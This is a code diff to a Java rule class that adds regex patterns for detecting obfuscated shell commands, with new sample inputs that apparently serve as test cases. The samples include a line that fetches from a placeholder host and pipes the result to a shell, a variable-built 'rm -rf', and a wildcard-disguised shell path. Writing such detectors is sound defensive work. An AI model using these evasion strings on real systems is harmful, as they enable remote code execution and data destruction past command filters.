@@ -117,13 +117,14 @@ final class CommandRules {
               .finds("(?:[;|]|&&) ?" + VARIABLE + VARIABLE + "(?:\\s+[-/~h\"']|\\s*[;|&]|$)")
               .finds(
                   "=[\"']?(?:rm|curl|wget|(?:ba|z|da|k)?sh|nc|ncat|mkfs|eval|chmod|base64)[\"']? ?(?:;|&&)"
-                      + "[^\\n\\x00]*[;|&(] ?[\"']?"
+                      + "(?:[^\\n\\x00]*[;|&(])? ?[\"']?"
                       + VARIABLE
                       + "(?:[\\s;|&\"'`)<\\\\]|$)",
                   160)
               .finds(
-                  "\\bIFS=[\"'\\\\]*[^\\s\"'\\\\;][\"'\\\\]*\\s*;\\s*[A-Za-z_]\\w*=[^\\n;]*;\\s*(?:eval\\s+)?"
-                      + VARIABLE)
+                  "\\bIFS=[\"'\\\\]*[^\\s\"'\\\\;][\"'\\\\]*\\s*;\\s*(?:(?:[A-Za-z_]\\w*=[^\\n;]*;\\s*(?:eval\\s+)?"
+                      + VARIABLE
+                      + ")|(?:`|\\$\\()\\s*(?:cat|echo|printf)\\b)")
               .finds(
                   "(?:^|[\\s;|&(`\"'=])/(?:usr/(?:local/)?)?s?bin/(?:[a-z0-9]+\\?[a-z?]*|\\?[a-z?]+|[a-z]*\\[[a-z]\\][a-z]*)\\s+(?:-[a-zA-Z]|https?:|/)")
               .finds(
@@ -134,7 +135,8 @@ final class CommandRules {
               .finds("\\$(?:\\{IFS[^}\\s]*\\}|IFS\\$[0-9@*])[a-zA-Z0-9]{2}")
               .finds("\\$'(?:\\\\{1,2}(?:x[2-7][0-9a-fA-F]|0?[4-7][0-7]|0?1[0-7]{2})){2,}")
               .finds("\\$\\{(?:PATH|HOME|PWD|SHELL|BASH|LS_COLORS|OLDPWD)[^}\\s]{0,3}:[0-9]+:1\\}")
-              .finds("/(?:\\?{3}|b\\?n|\\?in|bi\\?|us\\?)/[a-z0-9?/]*\\?[a-z0-9?]*\\s")
+              .finds(
+                  "/(?:\\?{3}|b\\?n|\\?in|bi\\?|us\\?)/[a-z0-9?/]*\\?[a-z0-9?]*(?:[\\s;|&\"'`)<\\\\]|$)")
               .finds("\\b(?:exec|eval|system|popen)\\(\\s*[\"'\\\\]{2,4}\\.join\\(\\[")
               .finds("\\$\\(\\s*rev\\s*<<<")
               .finds("\\$\\(\\s*echo\\s+[a-z]{2,12}\\s*\\|\\s*rev\\s*\\)")
@@ -183,6 +185,9 @@ final class CommandRules {
                   "a=w;b=get;$a$b -q h.example",
                   "x='rm'; y='-r'; $x $y build",
                   "s=sh; ls | $s",
+                  "x=rm; $x -rf build",
+                  "IFS=,;`cat<<<curl,-s,h.example`|sh",
+                  "ls | /???/b??h",
                   "IFS=,;c=cat,/tmp/x;$c",
                   "/bin/b?sh -x go",
                   "$(printf \"\\x69\\x64\") -u",
